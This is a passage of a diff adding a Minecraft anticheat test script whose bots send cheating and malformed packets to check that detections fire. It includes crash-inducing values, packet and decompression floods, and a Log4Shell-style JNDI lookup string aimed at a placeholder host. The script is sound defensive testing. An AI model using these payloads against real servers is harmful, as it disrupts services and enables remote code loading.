@@ -1,0 +1,868 @@
+'use strict'
+
+// cheat.js: one scripted cheating client, for the cheat suite. Each cheat
+// is named after the detection check it must trigger.
+//
+//   node cheat.js --host H --port P --version V --username U --cheat KEY
+//                 [--expect kick|drop|alert] [--timeout-ms N]
+//
+// The cheater is a mineflayer bot (it logs in, answers the edge's probes and
+// moves like any mineflayer bot) that writes the offending packets itself
+// with bot._client.write. Cheats that need someone to hit bring a second,
+// honest bot, U + "v", standing next to the cheater.
+//
+// Around the offending packets a cheat sends control packets, legal ones of
+// the same kind or harmless others, so the test can tell "the backend never
+// got it" from "the backend logs nothing" (controls before) and "the player
+// was dropped, not kicked" (controls after).
+//
+// --expect says what the check does with the offending packet; it only
+// decides how long to wait for a kick before leaving (a kick cheat waits up
+// to KICK_WAIT_MS, the others leave after AFTER_MS).
+//
+// stdout, one JSON line:
+//   {"event":"result","cheat":KEY,"kicked":B,"kick_reason":R,
+//    "offending":[PACKET,...],"control":[PACKET,...],"floods":[FLOOD,...],
+//    "notes":[...]}                                                      exit 0
+//   {"event":"error","stage":S,"error":E,...}                            exit 1
+// PACKET is {"name":N,"params":{..}}: the minecraft-data name and the fields
+// that identify the packet, encoded as backend.js --log-packets encodes what
+// it received (non-finite numbers as strings, buffers as {"bytes":N}).
+// FLOOD is {"name":N,"params":{..},"sent":N}: N copies of one packet.
+
+const lib = require('./lib')
+
+lib.divertStdout()
+
+const DEFAULT_TIMEOUT_MS = 60000
+
+// After spawning, the cheater waits this long before cheating: the chunks
+// arrive, mineflayer sends its first positions and the edge starts probing,
+// as in a real session.
+const SETTLE_MS = 1000
+const CHUNK_WAIT_MS = 8000
+
+// How long a kick may take to arrive after the packet that earns it (the
+// edge kicks at once; this is slack for a loaded machine), and how long a
+// player that should stay waits for a kick that should not come.
+const KICK_WAIT_MS = 8000
+const AFTER_MS = 1000
+
+// The budgets of the flood checks are averages over a window (rate ×
+// window): these counts exceed the defaults with margin. FLOOD_PACKETS
+// packets against 500/s × 7 s; FLOOD_PAYLOADS plugin messages of
+// PAYLOAD_BYTES against 64,000 B/s × 7 s; up to COMPRESS_PAYLOADS of them
+// (120 MB) against 5,242,880 B/s × 7 s of inflated bytes, refilled while the
+// flood runs (the check's edge turns flood.bytes off, which would fire
+// first).
+const FLOOD_PACKETS = 4000
+const PAYLOAD_BYTES = 30000
+const FLOOD_PAYLOADS = 16
+const COMPRESS_PAYLOADS = 4000
+
+// Packets a flood writes between two turns of the event loop.
+const FLOOD_BATCH = 50
+
+// The packets mineflayer's physics sends every tick.
+const MOVEMENT_PACKETS = new Set(['flying', 'position', 'look', 'position_look'])
+
+// Chat lines sent at once against chat.rate's 2/s × 10 s.
+const CHAT_BURST = 25
+
+// timer.balance: movement packets per second (vanilla sends 20) and the
+// longest the cheat keeps it up.
+const TIMER_RATE = 200
+const TIMER_MAX_MS = 5000
+
+// movement.reminder: rotation-only packets at the vanilla rate (one per
+// tick) for longer than the reminder allows.
+const REMINDER_LOOKS = 80
+const TICK_MS = 50
+
+// How many probes the probe-order cheat answers out of order (the check
+// kicks at violation level 5).
+const PROBE_SKIPS = 8
+
+// How long after the cheater's spawn the first hit comes: the engine exempts
+// combat for 3 s after a teleport (its teleportGrace), the spawn position
+// included.
+const COMBAT_AFTER_SPAWN_MS = 4000
+
+// Where the victim stands: VICTIM_GAP blocks from the cheater (within
+// VICTIM_SLACK), brought there by teleports of at most TP_STEP blocks (see
+// bringVictim), TP_GAP_MS apart (spam.command allows one command per 50 ms).
+const VICTIM_GAP = 1.5
+const VICTIM_SLACK = 0.5
+const TP_STEP = 6
+const MAX_TP_STEPS = 20
+const TP_GAP_MS = 150
+
+// combat: attacks sent within half a second against 8 per 0.5 s.
+const ATTACK_BURST = 12
+// How far the victim walks away before the out-of-reach hit (vanilla
+// reach is 3 blocks).
+const REACH_WALK_MS = 1500
+const MIN_REACH_DISTANCE = 5
+
+// combat.hitbox: hits looking away, HITBOX_GAP_MS apart (before the first
+// hit's knockback carries the victim out of reach).
+const HITBOX_HITS = 2
+const HITBOX_GAP_MS = 100
+
+// combat.cps: swings at CPS_RATE a second (the experimental limit is 20).
+const CPS_SWINGS = 40
+const CPS_RATE = 35
+
+// Over-limit sizes: sign lines over 384 chars, tab-complete text over 256,
+// anvil names over 35, book pages over 100, brands over 64 bytes, REGISTER
+// lists over 124 channels.
+const SIGN_LINE = 400
+const TAB_TEXT = 300
+const ANVIL_NAME = 40
+const BOOK_PAGES = 120
+const BRAND_BYTES = 100
+const REGISTER_CHANNELS = 200
+
+const opts = lib.args({
+  host: { type: 'string', default: '127.0.0.1' },
+  port: { type: 'string' },
+  version: { type: 'string' },
+  username: { type: 'string' },
+  cheat: { type: 'string' },
+  expect: { type: 'string', default: 'kick' },
+  'timeout-ms': { type: 'string', default: String(DEFAULT_TIMEOUT_MS) }
+}, ['port', 'version', 'username', 'cheat'])
+const port = lib.port(opts.port, 'port')
+const timeoutMs = Number(opts['timeout-ms'])
+
+const mineflayer = require('mineflayer')
+
+function sleep (ms) {
+  return new Promise((resolve) => setTimeout(resolve, ms))
+}
+
+function within (promise, ms, what) {
+  let timer
+  const timeout = new Promise((resolve, reject) => {
+    timer = setTimeout(() => reject(new Error(`${what}: nothing within ${ms} ms`)), ms)
+  })
+  return Promise.race([promise, timeout]).finally(() => clearTimeout(timer))
+}
+
+// reasonText flattens a disconnect reason into plain text (see bot.js).
+function reasonText (reason) {
+  if (reason === null || reason === undefined) return ''
+  if (typeof reason === 'string') {
+    try {
+      return reasonText(JSON.parse(reason))
+    } catch {
+      return reason
+    }
+  }
+  if (typeof reason !== 'object') return String(reason)
+  if ('type' in reason && 'value' in reason && Object.keys(reason).length === 2) return reasonText(reason.value)
+  let out = ''
+  if (typeof reason.text === 'string') out += reason.text
+  else if (reason.text !== undefined) out += reasonText(reason.text)
+  if (typeof reason.translate === 'string' && out === '') out += reason.translate
+  if (reason[''] !== undefined) out += reasonText(reason[''])
+  for (const part of [].concat(reason.extra ?? [], reason.with ?? [])) out += reasonText(part)
+  if (Array.isArray(reason)) for (const part of reason) out += reasonText(part)
+  return out
+}
+
+// wire encodes packet fields the way backend.js logs them.
+function wire (params) {
+  return JSON.parse(JSON.stringify(params, function (key, value) {
+    const raw = this[key]
+    if (Buffer.isBuffer(raw)) return { bytes: raw.length }
+    if (typeof value === 'bigint') return value.toString()
+    if (typeof value === 'number' && !Number.isFinite(value)) return String(value)
+    return value
+  }))
+}
+
+// mcString is a protocol string: VarInt byte length, then UTF-8.
+function mcString (s) {
+  const body = Buffer.from(s, 'utf8')
+  const len = []
+  let n = body.length
+  do {
+    let b = n & 0x7f
+    n >>>= 7
+    if (n !== 0) b |= 0x80
+    len.push(b)
+  } while (n !== 0)
+  return Buffer.concat([Buffer.from(len), body])
+}
+
+const result = { event: 'result', cheat: opts.cheat, kicked: false, kick_reason: '', offending: [], control: [], floods: [], notes: [] }
+let finished = false
+let stage = 'connect'
+const bots = []
+
+function finish (code, obj) {
+  if (finished) return
+  finished = true
+  lib.emit(obj)
+  for (const b of bots) {
+    try { b.quit() } catch {}
+  }
+  setTimeout(() => process.exit(code), 300).unref()
+  setTimeout(() => process.exit(code), 1500)
+}
+
+function failWith (message) {
+  finish(1, { ...result, event: 'error', stage, error: String(message) })
+}
+
+setTimeout(() => failWith(`timeout after ${timeoutMs} ms`), timeoutMs).unref()
+
+function makeBot (username) {
+  const bot = mineflayer.createBot({
+    host: opts.host,
+    port,
+    version: opts.version,
+    username,
+    auth: 'offline',
+    hideErrors: true,
+    logErrors: false,
+    checkTimeoutInterval: timeoutMs
+  })
+  bot.gone = null
+  bot.kickedReason = null
+  bot.kickedPromise = new Promise((resolve) => {
+    bot.on('kicked', (reason) => {
+      bot.kickedReason = reasonText(reason)
+      bot.gone = 'kicked'
+      resolve()
+    })
+  })
+  bot.on('end', (reason) => {
+    if (bot.gone === null) bot.gone = `connection ended: ${reason}`
+  })
+  bot.on('error', (err) => {
+    // A serialisation error means the cheat did not send what it claims:
+    // the run is void, not a detection.
+    if (err && /Serialization error/.test(err.message)) failWith(`${username}: ${err.message}`)
+    if (bot.gone === null) bot.gone = `client error: ${err && err.message ? err.message : err}`
+  })
+  bot.spawned = new Promise((resolve, reject) => {
+    bot.once('spawn', resolve)
+    bot.once('end', () => reject(new Error(`${username}: ${bot.gone ?? 'ended before spawn'}`)))
+  })
+  bots.push(bot)
+  return bot
+}
+
+// ctx is what a cheat works with.
+function context (bot, victim) {
+  const v = bot.registry.version
+  // send writes past pausePhysics's filter: every packet of the cheat goes
+  // through it.
+  const send = bot._client.write.bind(bot._client)
+  const ctx = {
+    bot,
+    victim,
+    since: (ver) => v['>='](ver),
+    gone: () => bot.gone !== null,
+    // write sends a packet and returns it as the backend would log it.
+    send,
+    // control sends a legal packet; pick names the fields that identify it.
+    control (name, params, pick = Object.keys(params)) {
+      send(name, params)
+      result.control.push({ name, params: wire(subset(params, pick)) })
+    },
+    offend (name, params, pick = Object.keys(params)) {
+      send(name, params)
+      result.offending.push({ name, params: wire(subset(params, pick)) })
+    },
+    // flood sends count copies of a packet, in batches with a turn of the
+    // event loop between them so the edge's disconnect is read (and the
+    // kick seen) when it comes, up to count or until the player is gone.
+    async flood (name, params, count, pick = Object.keys(params)) {
+      let sent = 0
+      while (sent < count && !ctx.gone()) {
+        for (let i = 0; i < FLOOD_BATCH && sent < count; i++, sent++) send(name, params)
+        await new Promise((resolve) => setImmediate(resolve))
+      }
+      result.floods.push({ name, params: wire(subset(params, pick)), sent })
+    },
+    note (text) {
+      result.notes.push(text)
+    },
+    // pausePhysics stops mineflayer's own movement packets (it sends one
+    // per tick even with physics off), so the cheat's movement packets
+    // take their place instead of adding ticks: each movement packet is a
+    // client tick to the timer check.
+    pausePhysics () {
+      bot.physicsEnabled = false
+      bot._client.write = (name, params) => {
+        if (!MOVEMENT_PACKETS.has(name)) send(name, params)
+      }
+    },
+    // Packet shapes that differ by version.
+    ground () {
+      return ctx.since('1.21.2') ? { flags: { onGround: true, hasHorizontalCollision: false } } : { onGround: true }
+    },
+    swing () {
+      return ctx.since('1.9') ? { hand: 0 } : {}
+    },
+    // entity_action ids are written by name: minecraft-data maps them for
+    // every version (backend.js logs the names too).
+    action (name) {
+      return name
+    },
+    brandChannel () {
+      return ctx.since('1.13') ? 'minecraft:brand' : 'MC|Brand'
+    },
+    chatPacket (message) {
+      if (!ctx.since('1.19')) return ['chat', { message }]
+      return ['chat_message', { message, timestamp: BigInt(Date.now()), salt: 0n, signature: undefined, offset: 0, acknowledged: Buffer.alloc(3), checksum: 0 }]
+    },
+    commandName () {
+      return ctx.since('1.19') ? 'chat_command' : 'chat'
+    },
+    commandParams (command) {
+      return ctx.since('1.19') ? { command } : { message: '/' + command }
+    },
+    tabComplete (text) {
+      if (ctx.since('1.13')) return { transactionId: 1, text }
+      if (ctx.since('1.9')) return { text, assumeCommand: false, lookedAtBlock: undefined }
+      return { text, block: undefined }
+    },
+    item (name, count) {
+      const Item = require('prismarine-item')(bot.registry)
+      return Item.toNotch(name === null ? null : new Item(bot.registry.itemsByName[name].id, count))
+    },
+    useEntity (target, mouse, extra = {}) {
+      const p = { target, mouse, ...extra }
+      if (ctx.since('1.9') && mouse !== 1) p.hand = p.hand ?? 0
+      if (ctx.since('1.16')) p.sneaking = false
+      return p
+    }
+  }
+  return ctx
+}
+
+function subset (params, pick) {
+  const out = {}
+  for (const k of pick) out[k] = params[k]
+  return out
+}
+
+// harmless is a legal packet nothing checks twice in a row: the held slot,
+// cycling, so same_slot never fires.
+let harmlessSlot = 1
+function harmless (ctx) {
+  harmlessSlot = (harmlessSlot % 7) + 1
+  ctx.control('held_item_slot', { slotId: harmlessSlot })
+}
+
+// answerProbes replaces mineflayer's answers to window confirmations (before
+// 1.17) and pings (1.17+) with fn(kind, packet).
+function answerProbes (bot, fn) {
+  const kind = bot.supportFeature('transactionPacketExists') ? 'transaction' : 'ping'
+  bot._client.removeAllListeners(kind)
+  bot._client.on(kind, (packet) => fn(kind, packet))
+}
+
+function answer (bot, kind, packet, accepted = true) {
+  if (kind === 'transaction') bot._client.write('transaction', { windowId: packet.windowId, action: packet.action, accepted })
+  else bot._client.write('pong', { id: packet.id })
+}
+
+// The cheats, by check key. Each returns when it has sent everything.
+const cheats = {
+  'frame.size': async (ctx) => {
+    ctx.control('held_item_slot', { slotId: 4 })
+    // A held-item change with three bytes after its field.
+    const params = { slotId: 5 }
+    const buf = ctx.bot._client.serializer.createPacketBuffer({ name: 'held_item_slot', params })
+    ctx.bot._client.writeRaw(Buffer.concat([buf, Buffer.from([0xde, 0xad, 0xbe])]))
+    result.offending.push({ name: 'held_item_slot', params })
+  },
+  'flood.packets': async (ctx) => {
+    await ctx.flood('arm_animation', ctx.swing(), FLOOD_PACKETS)
+  },
+  'flood.bytes': async (ctx) => {
+    const channel = ctx.since('1.13') ? 'rustguard:flood' : 'RG|flood'
+    await ctx.flood('custom_payload', { channel, data: Buffer.alloc(PAYLOAD_BYTES, 0x61) }, FLOOD_PAYLOADS)
+  },
+  'compress.rate': async (ctx) => {
+    const channel = ctx.since('1.13') ? 'rustguard:bomb' : 'RG|bomb'
+    // Each payload compresses to a few hundred bytes on the wire; the
+    // flood goes on until the kick (the budget refills while it runs).
+    await ctx.flood('custom_payload', { channel, data: Buffer.alloc(PAYLOAD_BYTES, 0) }, COMPRESS_PAYLOADS)
+  },
+  'crash.move_non_finite': async (ctx) => {
+    ctx.pausePhysics()
+    const p = ctx.bot.entity.position
+    ctx.control('position_look', { x: p.x, y: p.y, z: p.z, yaw: 0, pitch: 12.5, ...ctx.ground() }, ['pitch'])
+    ctx.offend('position_look', { x: NaN, y: p.y, z: p.z, yaw: 0, pitch: 0, ...ctx.ground() }, ['x'])
+  },
+  'crash.move_out_of_world': async (ctx) => {
+    ctx.pausePhysics()
+    const p = ctx.bot.entity.position
+    ctx.control('position', { x: p.x, y: p.y, z: p.z, ...ctx.ground() }, ['x'])
+    ctx.offend('position', { x: 3.2e7, y: p.y, z: p.z, ...ctx.ground() }, ['x'])
+  },
+  'badpackets.invalid_pitch': async (ctx) => {
+    ctx.pausePhysics()
+    ctx.control('look', { yaw: 0, pitch: 12.5, ...ctx.ground() }, ['pitch'])
+    await sleep(TICK_MS)
+    // The check kicks at violation level 3, which decays a little between
+    // flags: the fourth one kicks.
+    for (const pitch of [100, 110, 120, 130]) {
+      if (ctx.gone()) break
+      ctx.offend('look', { yaw: 0, pitch, ...ctx.ground() }, ['pitch'])
+      await sleep(TICK_MS)
+    }
+  },
+  'badpackets.slot_range': async (ctx) => {
+    ctx.control('held_item_slot', { slotId: 4 })
+    ctx.offend('held_item_slot', { slotId: 12 })
+  },
+  'badpackets.same_slot': async (ctx) => {
+    ctx.control('held_item_slot', { slotId: 6 })
+    await sleep(TICK_MS)
+    ctx.offend('held_item_slot', { slotId: 6 })
+    await sleep(TICK_MS)
+    ctx.control('held_item_slot', { slotId: 7 })
+  },
+  'crash.creative': async (ctx) => {
+    harmless(ctx)
+    ctx.offend('set_creative_slot', { slot: 37, item: ctx.item('stone', 1) }, ['slot'])
+    harmless(ctx)
+  },
+  'badpackets.dig_fields': async (ctx) => {
+    harmless(ctx)
+    // Drop one item, but at a block position (vanilla sends 0,0,0).
+    ctx.offend('block_dig', { status: 4, location: { x: 1, y: 2, z: 3 }, face: 0, sequence: 0 }, ['status', 'location'])
+    harmless(ctx)
+  },
+  'badpackets.use_fields': async (ctx) => {
+    harmless(ctx)
+    // A placement with the hand 7 (vanilla: 0 or 1), against the air high
+    // above the world, holding nothing: the backend ignores it.
+    ctx.offend('block_place', {
+      hand: 7,
+      location: { x: 0, y: 120, z: 0 },
+      direction: 1,
+      cursorX: 0.5,
+      cursorY: 0.5,
+      cursorZ: 0.5,
+      insideBlock: false,
+      worldBorderHit: false,
+      sequence: 0
+    }, ['hand', 'location'])
+    harmless(ctx)
+  },
+  'crash.negative_sequence': async (ctx) => {
+    harmless(ctx)
+    ctx.offend('use_item', { hand: 0, sequence: -5, rotation: { x: 0, y: 0 } }, ['sequence'])
+    harmless(ctx)
+  },
+  'client.brand': async (ctx) => {
+    harmless(ctx)
+    const data = mcString('x'.repeat(BRAND_BYTES))
+    ctx.offend('custom_payload', { channel: ctx.brandChannel(), data }, ['channel', 'data'])
+    harmless(ctx)
+  },
+  'crash.view_distance': async (ctx) => {
+    const settings = (viewDistance) => ({
+      locale: 'en_US',
+      viewDistance,
+      chatFlags: 0,
+      chatColors: true,
+      skinParts: 127,
+      mainHand: 1,
+      enableTextFiltering: false,
+      enableServerListing: true,
+      particles: 0
+    })
+    ctx.control('settings', settings(4), ['viewDistance'])
+    await sleep(TICK_MS)
+    ctx.offend('settings', settings(1), ['viewDistance'])
+    await sleep(TICK_MS)
+    ctx.control('settings', settings(5), ['viewDistance'])
+  },
+  'badpackets.sprint_repeat': async (ctx) => {
+    const id = ctx.bot.entity.id
+    ctx.control('entity_action', { entityId: id, actionId: ctx.action('start_sprinting'), jumpBoost: 0 }, ['actionId'])
+    await sleep(TICK_MS)
+    ctx.offend('entity_action', { entityId: id, actionId: ctx.action('start_sprinting'), jumpBoost: 0 }, ['actionId'])
+    await sleep(TICK_MS)
+    ctx.control('entity_action', { entityId: id, actionId: ctx.action('stop_sprinting'), jumpBoost: 0 }, ['actionId'])
+  },
+  'badpackets.sneak_repeat': async (ctx) => {
+    const id = ctx.bot.entity.id
+    ctx.control('entity_action', { entityId: id, actionId: ctx.action('start_sneaking'), jumpBoost: 0 }, ['actionId'])
+    await sleep(TICK_MS)
+    ctx.offend('entity_action', { entityId: id, actionId: ctx.action('start_sneaking'), jumpBoost: 0 }, ['actionId'])
+    await sleep(TICK_MS)
+    ctx.control('entity_action', { entityId: id, actionId: ctx.action('stop_sneaking'), jumpBoost: 0 }, ['actionId'])
+  },
+  'crash.click_fields': async (ctx) => {
+    harmless(ctx)
+    const click = ctx.since('1.17')
+      ? { windowId: 0, stateId: 0, slot: 500, mouseButton: 0, mode: 0, changedSlots: [], cursorItem: ctx.item(null) }
+      : { windowId: 0, slot: 500, mouseButton: 0, action: 77, mode: 0, item: ctx.item(null) }
+    ctx.offend('window_click', click, ['slot'])
+    harmless(ctx)
+  },
+  'crash.anvil_name': async (ctx) => {
+    harmless(ctx)
+    ctx.offend('custom_payload', { channel: 'MC|ItemName', data: mcString('n'.repeat(ANVIL_NAME)) }, ['channel'])
+    harmless(ctx)
+  },
+  'badpackets.mount_jump': async (ctx) => {
+    harmless(ctx)
+    // A sneak for an entity that is not the player.
+    const other = ctx.bot.entity.id + 1000
+    ctx.offend('entity_action', { entityId: other, actionId: ctx.action('start_sneaking'), jumpBoost: 0 }, ['entityId'])
+    harmless(ctx)
+  },
+  'badpackets.fly': async (ctx) => {
+    harmless(ctx)
+    // Start flying (flag 2) in survival.
+    const fly = ctx.since('1.16') ? { flags: 2 } : { flags: 2, flyingSpeed: 0.05, walkingSpeed: 0.1 }
+    ctx.offend('abilities', fly, ['flags'])
+    harmless(ctx)
+  },
+  'badpackets.txn_rejected': async (ctx) => {
+    harmless(ctx)
+    let sent = false
+    answerProbes(ctx.bot, (kind, packet) => {
+      if (sent || packet.windowId !== 0 || packet.action >= 0) return answer(ctx.bot, kind, packet)
+      sent = true
+      ctx.offend('transaction', { windowId: 0, action: packet.action, accepted: false }, ['accepted'])
+    })
+    await within(new Promise((resolve) => {
+      const t = setInterval(() => { if (sent || ctx.gone()) { clearInterval(t); resolve() } }, TICK_MS)
+    }), KICK_WAIT_MS, 'a window confirmation probe')
+  },
+  'latency.probe_order': async (ctx) => {
+    harmless(ctx)
+    // The edge probes while the server sends traffic: the victim jumping
+    // in sight makes flying-squid send its movement every tick.
+    ctx.victim.setControlState('jump', true)
+    // Keep the newest probe, drop the one before it: each answer skips one.
+    let held = null
+    let skips = 0
+    answerProbes(ctx.bot, (kind, packet) => {
+      if (kind === 'transaction' && (packet.windowId !== 0 || packet.action >= 0)) return answer(ctx.bot, kind, packet)
+      if (held === null || skips >= PROBE_SKIPS) {
+        held = packet
+        return
+      }
+      held = null
+      skips++
+      answer(ctx.bot, kind, packet)
+    })
+    await within(new Promise((resolve) => {
+      const t = setInterval(() => { if (skips >= PROBE_SKIPS || ctx.gone()) { clearInterval(t); resolve() } }, TICK_MS)
+    }), KICK_WAIT_MS, `${PROBE_SKIPS} out-of-order answers`)
+    ctx.note(`answered ${skips} probes out of order`)
+  },
+  'latency.probe_timeout': async (ctx) => {
+    harmless(ctx)
+    // Never answer; mineflayer keeps moving (and sending) meanwhile.
+    answerProbes(ctx.bot, () => {})
+    ctx.bot.setControlState('jump', true)
+  },
+  'latency.keepalive_order': async (ctx) => {
+    harmless(ctx)
+    const id = ctx.since('1.12.2') ? 123456789n : 123456789
+    ctx.offend('keep_alive', { keepAliveId: id })
+    harmless(ctx)
+  },
+  'movement.reminder': async (ctx) => {
+    // Rotation only, one per tick, with no position for four seconds.
+    ctx.pausePhysics()
+    let sent = 0
+    for (; sent < REMINDER_LOOKS && !ctx.gone(); sent++) {
+      ctx.send('look', { yaw: sent, pitch: 33.5, ...ctx.ground() })
+      await sleep(TICK_MS)
+    }
+    result.floods.push({ name: 'look', params: { pitch: 33.5 }, sent })
+  },
+  'timer.balance': async (ctx) => {
+    ctx.pausePhysics()
+    const p = ctx.bot.entity.position
+    const params = { x: p.x, y: p.y, z: p.z, ...ctx.ground() }
+    let sent = 0
+    const end = Date.now() + TIMER_MAX_MS
+    while (!ctx.gone() && Date.now() < end) {
+      for (let i = 0; i < TIMER_RATE / 20; i++) ctx.send('position', params)
+      sent += TIMER_RATE / 20
+      await sleep(TICK_MS)
+    }
+    result.floods.push({ name: 'position', params: wire({ x: p.x }), sent })
+  },
+  'order.no_swing': async (ctx) => {
+    ctx.pausePhysics()
+    const target = ctx.victim.entity.id
+    const p = ctx.bot.entity.position
+    // Attacks without the arm swing, each closed by a tick packet.
+    for (let i = 0; i < 2; i++) {
+      ctx.offend('use_entity', ctx.useEntity(target, 1), ['target', 'mouse'])
+      ctx.send('position', { x: p.x, y: p.y, z: p.z, ...ctx.ground() })
+      await sleep(TICK_MS * 10)
+    }
+  },
+  'combat.attack_rate': async (ctx) => {
+    const target = ctx.victim.entity.id
+    const params = ctx.useEntity(target, 1)
+    for (let i = 0; i < ATTACK_BURST; i++) {
+      if (!ctx.since('1.9')) ctx.bot._client.write('arm_animation', ctx.swing())
+      ctx.bot._client.write('use_entity', params)
+      if (ctx.since('1.9')) ctx.bot._client.write('arm_animation', ctx.swing())
+      await sleep(400 / ATTACK_BURST)
+    }
+    result.floods.push({ name: 'use_entity', params: wire(subset(params, ['target', 'mouse'])), sent: ATTACK_BURST })
+  },
+  'combat.interact_vector': async (ctx) => {
+    const target = ctx.victim.entity.id
+    // Hit vectors are floats: values exact in binary compare exactly.
+    ctx.control('use_entity', ctx.useEntity(target, 2, { x: 0.25, y: 1, z: 0.25 }), ['target', 'mouse', 'x'])
+    ctx.control('use_entity', ctx.useEntity(target, 0), ['target', 'mouse'])
+    // A hundred blocks off the side of the target: outside any box the
+    // check allows (up to 4 blocks wide, ×16 for scaled entities since
+    // 1.20.5; flying-squid spawns players with other entity types on some
+    // versions).
+    ctx.offend('use_entity', ctx.useEntity(target, 2, { x: 100, y: 1, z: 0.25 }), ['target', 'mouse', 'x'])
+    ctx.control('use_entity', ctx.useEntity(target, 0), ['target', 'mouse'])
+  },
+  'combat.reach': async (ctx) => {
+    const bot = ctx.bot
+    const victim = ctx.victim
+    const target = victim.entity.id
+    const hit = async () => {
+      await bot.lookAt(victim.entity.position.offset(0, 1.4, 0), true)
+      await sleep(TICK_MS * 2)
+      if (!ctx.since('1.9')) bot._client.write('arm_animation', ctx.swing())
+      bot._client.write('use_entity', ctx.useEntity(target, 1))
+      if (ctx.since('1.9')) bot._client.write('arm_animation', ctx.swing())
+    }
+    // A hit within reach, then the victim walks away and is hit again.
+    await hit()
+    result.control.push({ name: 'use_entity', params: wire(subset(ctx.useEntity(target, 1), ['target', 'mouse'])) })
+    await sleep(500)
+    const away = victim.entity.position.minus(bot.entity.position)
+    await victim.look(away.norm() > 0.01 ? Math.atan2(-away.x, -away.z) : 0, 0, true)
+    victim.setControlState('forward', true)
+    await sleep(REACH_WALK_MS)
+    victim.setControlState('forward', false)
+    await sleep(500)
+    const d = bot.entity.position.distanceTo(victim.entity.position)
+    if (d < MIN_REACH_DISTANCE) throw new Error(`the victim is only ${d.toFixed(2)} blocks away`)
+    ctx.note(`hit from ${d.toFixed(2)} blocks`)
+    await hit()
+    result.offending.push({ name: 'use_entity', params: wire(subset(ctx.useEntity(target, 1), ['target', 'mouse'])) })
+    await sleep(TICK_MS * 2)
+    harmless(ctx)
+  },
+  'combat.self_interact': async (ctx) => {
+    harmless(ctx)
+    ctx.offend('use_entity', ctx.useEntity(ctx.bot.entity.id, 1), ['target', 'mouse'])
+  },
+  'book.edit': async (ctx) => {
+    harmless(ctx)
+    const pages = Array.from({ length: BOOK_PAGES }, (_, i) => `page ${i}`)
+    ctx.offend('edit_book', { hand: 0, pages, title: undefined }, ['pages'])
+  },
+  'channel.payload': async (ctx) => {
+    // Data over max_bytes (32,767) already fails to decode (frame.size
+    // kicks first), so the cheat breaks the 1.13+ rule instead.
+    if (!ctx.since('1.13')) throw new Error('channel.payload: before 1.13 no rule is reachable at the default max_bytes')
+    harmless(ctx)
+    // Not an identifier: vanilla cannot decode the channel.
+    ctx.offend('custom_payload', { channel: 'Not A Channel!', data: Buffer.from('x') }, ['channel'])
+  },
+  'channel.register': async (ctx) => {
+    harmless(ctx)
+    const names = Array.from({ length: REGISTER_CHANNELS }, (_, i) => `rg:c${i}`)
+    const channel = ctx.since('1.13') ? 'minecraft:register' : 'REGISTER'
+    ctx.offend('custom_payload', { channel, data: Buffer.from(names.join('\0')) }, ['channel', 'data'])
+  },
+  'chat.invalid': async (ctx) => {
+    harmless(ctx)
+    const [name, params] = ctx.chatPacket('bell\u0007here')
+    ctx.offend(name, params, ['message'])
+    harmless(ctx)
+  },
+  'chat.lookup_string': async (ctx) => {
+    harmless(ctx)
+    const [name, params] = ctx.chatPacket('${jndi:ldap://rustguard.invalid/a}') // eslint-disable-line no-template-curly-in-string
+    ctx.offend(name, params, ['message'])
+    harmless(ctx)
+  },
+  'chat.rate': async (ctx) => {
+    const [name, params] = ctx.chatPacket('spam spam spam')
+    await ctx.flood(name, params, CHAT_BURST, ['message'])
+    await sleep(TICK_MS)
+    harmless(ctx)
+  },
+  'sign.text': async (ctx) => {
+    // From 1.9 a line over 384 chars fails to decode (frame.size kicks
+    // first); 1.8 lines are JSON text, held to the same length by the check.
+    if (ctx.since('1.9')) throw new Error('sign.text: only 1.8 lines reach the check')
+    harmless(ctx)
+    const line = JSON.stringify({ text: 'x'.repeat(SIGN_LINE) })
+    ctx.offend('update_sign', { location: { x: 3, y: 5, z: 3 }, text1: line, text2: '""', text3: '""', text4: '""' }, ['location'])
+  },
+  'spam.command': async (ctx) => {
+    // Two commands in the same millisecond.
+    const name = ctx.commandName()
+    const params = ctx.commandParams('ping')
+    ctx.bot.chat('/ping')
+    result.control.push({ name, params })
+    ctx.bot.chat('/ping')
+    result.offending.push({ name, params })
+    await sleep(TICK_MS)
+    harmless(ctx)
+  },
+  'spam.tab': async (ctx) => {
+    const params = ctx.tabComplete('/pi')
+    ctx.control('tab_complete', params, ['text'])
+    ctx.offend('tab_complete', params, ['text'])
+    await sleep(TICK_MS)
+    harmless(ctx)
+  },
+  // Experimental checks (the suite turns each on for its row).
+  'badpackets.sequence': async (ctx) => {
+    harmless(ctx)
+    ctx.control('use_item', { hand: 0, sequence: 5, rotation: { x: 0, y: 0 } }, ['sequence'])
+    await sleep(TICK_MS)
+    // The next prediction must be 6.
+    ctx.offend('use_item', { hand: 0, sequence: 9, rotation: { x: 0, y: 0 } }, ['sequence'])
+    harmless(ctx)
+  },
+  'movement.teleport_ignored': async (ctx) => {
+    // Ignore the server's teleports (no confirmation, no position answer)
+    // while answering the edge's probes as usual.
+    ctx.bot._client.removeAllListeners('position')
+    ctx.victim.setControlState('jump', true)
+    ctx.bot.chat('/tp ~ ~0.0 ~1.0')
+    await sleep(SETTLE_MS)
+  },
+  'combat.cps': async (ctx) => {
+    // Arm swings well above 20 a second, not digging.
+    let sent = 0
+    for (; sent < CPS_SWINGS && !ctx.gone(); sent++) {
+      ctx.send('arm_animation', ctx.swing())
+      await sleep(1000 / CPS_RATE)
+    }
+    result.floods.push({ name: 'arm_animation', params: wire(ctx.swing()), sent })
+  },
+  'combat.hitbox': async (ctx) => {
+    ctx.pausePhysics()
+    const target = ctx.victim.entity.id
+    const p = ctx.bot.entity.position
+    // Looking straight up, before and after the hit, at a victim standing
+    // beside the cheater: no look in between meets its box.
+    const look = { x: p.x, y: p.y, z: p.z, yaw: 0, pitch: -90, ...ctx.ground() }
+    for (let i = 0; i < HITBOX_HITS; i++) {
+      ctx.send('position_look', look)
+      await sleep(TICK_MS)
+      if (!ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
+      ctx.offend('use_entity', ctx.useEntity(target, 1), ['target', 'mouse'])
+      if (ctx.since('1.9')) ctx.send('arm_animation', ctx.swing())
+      ctx.send('position_look', look)
+      await sleep(HITBOX_GAP_MS)
+    }
+  },
+  'chat.blank_tab': async (ctx) => {
+    harmless(ctx)
+    ctx.offend('tab_complete', ctx.tabComplete('/'), ['text'])
+    harmless(ctx)
+  },
+  'spam.tab_length': async (ctx) => {
+    harmless(ctx)
+    ctx.offend('tab_complete', ctx.tabComplete('/say ' + 'a'.repeat(TAB_TEXT)), ['text'])
+    harmless(ctx)
+  }
+}
+
+// bringVictim moves the victim next to the cheater (flying-squid spawns
